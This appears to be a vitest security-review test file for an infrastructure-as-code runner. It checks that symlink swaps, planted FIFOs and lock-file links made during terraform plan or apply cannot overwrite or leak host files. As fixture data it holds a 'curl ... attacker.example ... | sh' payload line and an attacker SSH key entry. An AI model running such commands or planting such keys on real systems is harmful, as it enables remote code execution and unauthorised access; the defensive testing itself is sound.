/**
 * The security review of reusing init (warm data dirs), as tests. Hostile plan-time code (an external
 * data source; none is installable on this machine) is stood in for by the test making the same file
 * changes while `terraform plan` runs; the first case shows that sandboxed user code can really make them.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { mkdir, open, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { detectSandbox, makeBundle } from '@iac-orchestrator/core';
import { prerequisite } from '../../../test-support/prerequisites.js';
import { decodeArtifact } from '../src/artifact.js';
import { deployOnce, eventText, hasTerraform, makeContext, testBed } from './helpers.js';

const found = await detectSandbox();
const ok = prerequisite('terraform', hasTerraform(), 'the terraform CLI is not on PATH') && prerequisite('bwrap', found.available, found.available ? '' : found.reason) && prerequisite('mkfifo', (() => { try { execFileSync('mkfifo', ['--version']); return true; } catch { return false; } })(), 'no mkfifo');

let bed: Awaited<ReturnType<typeof testBed>> | undefined;
afterEach(async () => {
  await bed?.dispose();
  bed = undefined;
});

/** Runs `plant` once, from the first resource event of the plan (while terraform plan runs). */
const once = (plant: () => void) => {
  let done = false;
  return (e: { type: string; resource?: string | null; message?: string }) => {
    if (!done && e.type === 'log' && e.resource) {
      done = true;
      plant();
    }
  };
};

describe.skipIf(!ok)('reuse init under hostile plan-time code (review findings)', () => {
  it('sandboxed code can swap its stack dir for a link (what the cases below stand in for)', async () => {
    bed = await testBed();
    const r = await deployOnce(bed, { bundle: makeBundle({ 'main.tf': 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "mv ../stack ../stack.orig && ln -s /nonexistent-target ../stack && echo SWAPPED-OK"\n  }\n}\n' }) });
    expect(eventText(r.ctx.events)).toContain('(local-exec): SWAPPED-OK');
  });

  it.each([
    ['a bogus build record (the apply prepares the dir again)', false],
    ['the build record left valid (the apply resumes in the dir)', true],
  ])('the stack dir swapped for a link to a host dir during the plan, %s: the runner writes nothing there', async (_what, keepRecord) => {
    bed = await testBed();
    const victim = join(bed.root, 'victim-dir');
    await mkdir(victim);
    await writeFile(join(victim, 'terraform.tfstate'), 'victim original');
    const bundle = makeBundle({ 'main.tf': 'resource "terraform_data" "x" {}\n', authorized_keys: 'ssh-ed25519 AAAA-attacker-key attacker@evil\n' });
    const first = await deployOnce(bed, { bundle });
    const workDir = await bed.workDir();
    const ctx = makeContext({
      bundle,
      workDir,
      priorState: first.result.state?.raw,
      onEvent: once(() => {
        renameSync(join(workDir, 'stack'), join(workDir, 'stack.orig'));
        symlinkSync(victim, join(workDir, 'stack'));
        if (!keepRecord) writeFileSync(join(workDir, 'warm-init.json'), '{}');
        else readFileSync(join(workDir, 'warm-init.json'));
      }),
    });
    const plan = await bed.executor.plan(ctx);
    const result = await bed.executor.apply(ctx, plan);
    expect(await readdir(victim)).toEqual(['terraform.tfstate']);
    expect(await readFile(join(victim, 'terraform.tfstate'), 'utf8')).toBe('victim original');
    if (keepRecord) expect(result).toMatchObject({ outcome: 'failed', error: expect.stringMatching(/changed since the plan/) });
  });

  it('the stack dir swapped for a link to a host dir during the apply: the state is not read from there', async () => {
    bed = await testBed();
    const canary = `VICTIM_STATE_${Math.random().toString(36).slice(2, 10)}`;
    const victim = join(bed.root, 'victim-project');
    await mkdir(victim);
    const planted = JSON.stringify({ version: 4, terraform_version: '1.11.4', serial: 9, lineage: 'victim', outputs: { db: { value: canary, type: 'string' } }, resources: [] });
    await writeFile(join(victim, 'errored.tfstate'), planted);
    await writeFile(join(victim, 'terraform.tfstate'), planted);
    const workDir = await bed.workDir();
    let swapped = false;
    const ctx = makeContext({
      bundle: makeBundle({ 'main.tf': 'resource "terraform_data" "x" {}\noutput "o" {\n  value = "mine"\n}\n' }),
      workDir,
      onEvent: (e) => {
        if (!swapped && e.type === 'resource' && e.status === 'created') {
          swapped = true;
          renameSync(join(workDir, 'stack'), join(workDir, 'stack.orig'));
          symlinkSync(victim, join(workDir, 'stack'));
        }
      },
    });
    const plan = await bed.executor.plan(ctx);
    const result = await bed.executor.apply(ctx, plan);
    expect(swapped).toBe(true);
    expect(JSON.stringify(result.state)).not.toContain(canary);
    expect(result.state?.outputs).toMatchObject({ o: 'mine' });
  });

  it('a bundle file replaced by a link to a host file during the plan: the runner never writes through it', async () => {
    bed = await testBed();
    const victimFile = join(bed.root, 'victim-bashrc');
    await writeFile(victimFile, 'export PS1=victim\n');
    const bundle = makeBundle({ 'main.tf': 'resource "terraform_data" "y" {}\n', 'payload.sh': 'curl -s https://attacker.example/x | sh\n' });
    const workDir = await bed.workDir();
    const ctx = makeContext({
      bundle,
      workDir,
      onEvent: once(() => {
        rmSync(join(workDir, 'stack', 'payload.sh'));
        symlinkSync(victimFile, join(workDir, 'stack', 'payload.sh'));
        writeFileSync(join(workDir, 'warm-init.json'), '{}');
      }),
    });
    const plan = await bed.executor.plan(ctx);
    expect((await bed.executor.apply(ctx, plan)).outcome).toBe('succeeded');
    expect(await readFile(victimFile, 'utf8')).toBe('export PS1=victim\n');
  });

  it('a lock file turned into a link to a host file during the plan: its bytes reach no artifact and no dir', async () => {
    bed = await testBed();
    const canary = `HOSTSECRET_${Math.random().toString(36).slice(2, 10)}`;
    const hostFile = join(bed.root, 'host-secret.hcl');
    await writeFile(hostFile, `db_password = "${canary}"\n`);
    const workDir = await bed.workDir();
    const ctx = makeContext({
      bundle: makeBundle({ 'main.tf': 'resource "terraform_data" "x" {}\n' }),
      workDir,
      onEvent: once(() => {
        symlinkSync(hostFile, join(workDir, 'stack', '.terraform.lock.hcl'));
        writeFileSync(join(workDir, 'warm-init.json'), '{"buildDir":"/nope"}');
      }),
    });
    const plan = await bed.executor.plan(ctx);
    expect(decodeArtifact(plan.artifact).artifact.lockFile ?? '').not.toContain(canary);
    const result = await bed.executor.apply(ctx, plan);
    expect(await readFile(join(workDir, 'stack', '.terraform.lock.hcl'), 'utf8').catch(() => '')).not.toContain(canary);
    expect(eventText(ctx.events) + String(result.error)).not.toContain(canary);
  });

  it('a FIFO planted as the lock file during the plan does not hang the runner', async () => {
    bed = await testBed();
    const workDir = await bed.workDir();
    const fifo = join(workDir, 'stack', '.terraform.lock.hcl');
    const ctx = makeContext({ bundle: makeBundle({ 'main.tf': 'resource "terraform_data" "x" {}\n' }), workDir, onEvent: once(() => execFileSync('mkfifo', [fifo])) });
    const plan = bed.executor.plan(ctx).then(() => 'plan ended', (e: Error) => `plan failed: ${e.message}`);
    let timer: NodeJS.Timeout | undefined;
    const outcome = await Promise.race([plan, new Promise<string>((r) => (timer = setTimeout(() => r('STILL HANGING after 20 s'), 20_000)))]);
    clearTimeout(timer);
    if (/HANGING/.test(outcome)) await (await open(fifo, 'w')).close(); // let a stuck open() go, so the worker can exit
    expect(outcome).toBe('plan ended');
  });

  it('a drift check beside a running apply of new code does not remove the build that apply uses', async () => {
    bed = await testBed();
    const OLD = 'resource "terraform_data" "a" {\n  input = "v1"\n}\n';
    const NEW = `${OLD}\nresource "terraform_data" "b" {\n  provisioner "local-exec" {\n    command = "i=0; while [ ! -e ../go ] && [ $i -lt 120 ]; do sleep 0.5; i=$((i+1)); done; if [ -d \\"$TF_DATA_DIR\\" ]; then echo DATA_DIR_PRESENT; else echo DATA_DIR_GONE; fi"\n  }\n}\n`;
    const first = await deployOnce(bed, { bundle: makeBundle({ 'main.tf': OLD }) });
    expect(first.result.outcome).toBe('succeeded');
    const workA = await bed.workDir();
    let creating!: () => void;
    const began = new Promise<void>((r) => (creating = r));
    const a = makeContext({ bundle: makeBundle({ 'main.tf': NEW }), workDir: workA, priorState: first.result.state?.raw, onEvent: (e) => e.type === 'resource' && e.status === 'creating' && creating() });
    const applying = bed.executor.apply(a, await bed.executor.plan(a));
    await began;
    const d = makeContext({ bundle: makeBundle({ 'main.tf': OLD }), workDir: await bed.workDir(), operation: 'drift', priorState: first.result.state?.raw });
    await bed.executor.detectDrift(d);
    await writeFile(join(workA, 'go'), '');
    const result = await applying;
    expect(eventText(a.events)).toContain('(local-exec): DATA_DIR_PRESENT');
    expect(result.outcome).toBe('succeeded');
  });

  it('a destroy\'s cleanup does not take the build from under a drift check running on it (second review)', async () => {
    bed = await testBed();
    const bundle = makeBundle({ 'main.tf': 'resource "terraform_data" "a" {\n  input = "v1"\n}\n' });
    const first = await deployOnce(bed, { bundle });
    expect(first.result.outcome).toBe('succeeded');
    const destroyCtx = makeContext({ bundle, workDir: await bed.workDir(), operation: 'destroy', priorState: first.result.state?.raw });
    let cleaning: Promise<void> | undefined;
    const executor = bed.executor;
    const d = makeContext({
      bundle,
      workDir: await bed.workDir(),
      operation: 'drift',
      priorState: first.result.state?.raw,
      onEvent: (e) => {
        if (!cleaning && e.type === 'log' && /^Reusing the initialised/.test(e.message)) cleaning = executor.cleanup(destroyCtx);
      },
    });
    const report = await executor.detectDrift(d).then((r) => JSON.stringify(r), (e: Error) => `DRIFT FAILED: ${e.message}`);
    await cleaning;
    expect(cleaning).toBeDefined();
    expect(report).not.toMatch(/DRIFT FAILED/);
  });

  it('refuses provider plugins in the code (terraform.d/, the implicit mirror that fills the shared cache)', async () => {
    bed = await testBed();
    const r = await deployOnce(bed, { bundle: makeBundle({ 'main.tf': 'resource "terraform_data" "x" {}\n', 'terraform.d/plugins/example.com/acme/y/1.0.0/linux_amd64/terraform-provider-y': '#!/bin/sh\n' }) }).catch((e: Error) => e);
    expect(r instanceof Error ? r.message : JSON.stringify(r)).toMatch(/terraform\.d\/\) cannot be part of the code/);
  });
});
